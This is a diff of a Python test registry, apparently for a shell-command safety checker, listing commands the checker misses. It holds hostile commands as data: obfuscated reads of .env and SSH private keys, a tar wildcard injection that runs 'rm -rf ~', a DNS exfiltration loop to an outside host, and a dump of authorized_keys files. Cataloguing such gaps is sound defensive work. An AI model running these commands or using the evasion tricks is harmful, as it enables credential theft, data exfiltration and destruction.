@@ -444,13 +444,8 @@ def unmet(reason: str, *commands: str) -> None:
     UNMET.update(dict.fromkeys(commands, reason))
 
 
-unmet("a path the line builds at run time: the parser does not evaluate ${v//p/r}, ${v:o:l} or echo -e's escapes, "
-      "and a read of a path it cannot see passes", "t=.ehhh/hmnv; cat ${t//hhh\\/hm/}",
-      "cat `echo -e \"\\x2e\\x65\\x6e\\x76\"`", "cat ${HOME}${HOME:0:1}.ssh${HOME:0:1}id_rsa")
 unmet("a command's output in a DNS name is caught for cat of a file, not for a loop over ls",
       "for i in $(ls /) ; do host \"$i.3a43c7e4e57a8d0e2057.d.zhack.ca\"; done")
-unmet("file names a glob turns into tar's options: the files the line made are not matched against the glob",
-      "touch -- '--checkpoint=1' '--checkpoint-action=exec=rm -rf ~' && tar cf archive.tar *")
 unmet("our label, wrong in substance: authorized_keys holds public keys, which no secret pattern names "
       "(rightly); the note's \"every private key printed\" does not hold for it",
       "find / -name authorized_keys 2> /dev/null | xargs cat")
